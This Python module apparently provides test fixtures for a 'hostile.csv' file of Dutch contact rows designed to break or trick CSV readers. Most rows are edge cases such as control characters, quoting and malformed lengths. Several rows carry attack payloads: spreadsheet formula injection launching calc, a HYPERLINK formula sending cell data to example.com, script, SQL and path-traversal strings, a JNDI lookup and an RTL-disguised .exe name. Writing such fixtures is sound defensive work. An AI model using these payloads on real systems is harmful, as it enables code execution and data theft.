"""What stands in `hostile.csv`: cells that crash readers, run as formulas, or vanish. All of it is invented."""

# ruff: noqa: INP001 - scripts that lie beside what they make, not a package
from __future__ import annotations

from invented import BELL, ESCAPE, NO_BREAK, RIGHT_TO_LEFT, UNIT, ZERO_WIDTH

LINE_ENDS = ["\r\n", "\n", "\n", "\r"]

HOSTILE_HEADER = ["Soort nummer", "Naam groep", "Bedrijfsnaam", "Voornaam", "Achternaam", "Telefoon"]
HOSTILE_HEADER += ["Straat", "Huisnummer", "Postcode", "Plaats", "Provincie", "Toelichting"]
_USUAL = ["local", "", "", "Fleur", "Voorbeeld", "+31201234567", "Voorbeeldstraat", "1", "1234 AB", "Voorbeeldstad"]
_USUAL += ["Utrecht", ""]

_MEGABYTE = 1024 * 1024
_STORY = "Een heel lang verhaal over een groep die niet bestaat. "


def _row(name: str, business: str, **other: str) -> list[str]:
    """One row: what is particular about it by column label, the rest as usual."""
    given = {"Naam groep": name, "Bedrijfsnaam": business, **other}
    return [given.get(label, usual) for label, usual in zip(HOSTILE_HEADER, _USUAL, strict=True)]


HOSTILE_ROWS = [
    _row(
        "=cmd|'/C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        Voornaam="+1+1",
        Achternaam="-2+3",
        Straat='=HYPERLINK("https://example.com/?steal="&A1,"klik hier")',
        Toelichting="\t=1+1",
    ),
    _row(
        f"Piep{BELL}zaak",
        f"{ESCAPE}[31mRode Voorbeeldzaak 52{ESCAPE}[0m",
        Plaats=f"Voorbeeld{UNIT}stad",
        Toelichting="backspace\b, tab\t en form feed\f",
    ),
    _row("Lange adem", "Verhalenhuis 53", Toelichting=(_STORY * (_MEGABYTE // len(_STORY) + 1))[:_MEGABYTE]),
    _row('Zaak "De ""Aap"""', '"', Achternaam="O'Voorbeeld", Straat="Straat, \"laan\" of 'kade'"),
    _row("Twee\r\nregels", "Drie\nregels\nhoog 55", Toelichting="\nbegint met een nieuwe regel"),
    _row(
        f"Foto {RIGHT_TO_LEFT}gnp.exe",
        f"Onzicht{ZERO_WIDTH}baar 🦊 56",
        Achternaam=f"{NO_BREAK}Voorbeeld{NO_BREAK}",
        Huisnummer="٥٦",
    ),
    _row(
        "NULL",
        "NA",
        Voornaam="None",
        Achternaam="nan",
        Straat="N/A",
        Huisnummer="1E5",
        Postcode="00123",
        Plaats="null",
        Provincie="-",
        Toelichting="#1",
    ),
    _row(
        "<script>alert(1)</script>",
        "'; DROP TABLE groups; --",
        Straat="../../etc/passwd",
        Huisnummer="{{7*7}}",
        Plaats="%s%n%x",
        Toelichting="${jndi:ldap://example.com/a}",
    ),
    _row(f" {NO_BREAK}\t{ZERO_WIDTH} ", "Leegte 59"),
    ["local", "Korte regel", "Te weinig cellen 60", "Fleur", "Voorbeeld"],
    [*_row("Lange regel", "Te veel cellen 61"), "een cel", "en nog een"],
    _row("Schuine streep\\", "C:\\map\\62\\", Toelichting='een \\" die niets betekent\\'),
    _row("Getallen", "Getallenzaak 63", Huisnummer="1-2", Telefoon="3,16123E+10", Postcode="1234567890123456789"),
    _row("Voorbeeld" * 40, "Langnamig 64", **{"Soort nummer": "  LoKaAl  "}),
]
